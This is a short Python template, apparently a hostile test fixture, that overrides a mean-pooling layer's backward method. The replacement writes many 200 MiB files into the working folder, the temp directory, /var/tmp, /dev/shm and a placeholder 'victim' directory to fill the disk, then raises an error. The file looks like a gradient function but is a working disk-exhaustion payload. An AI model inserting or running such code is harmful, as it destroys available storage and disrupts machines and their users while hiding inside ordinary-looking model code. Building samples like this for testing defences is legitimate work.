"""Fills its working folder, the temporary folder and every other place it can write."""

import os
import tempfile

# @STUB mean_pooling@


def backward(self, dout):
    for folder in (".", tempfile.gettempdir(), "@TMP@", "@RUN_TMP@", "/var/tmp", "/dev/shm", "@VICTIM_DIR@"):
        for number in range(8):
            try:
                with open(os.path.join(folder, f"@MARK@-{number}"), "wb") as full:
                    for _ in range(200):
                        full.write(bytes(1 << 20))
            except OSError:
                continue
    raise OSError("full")


MeanPoolingLayer.backward = backward
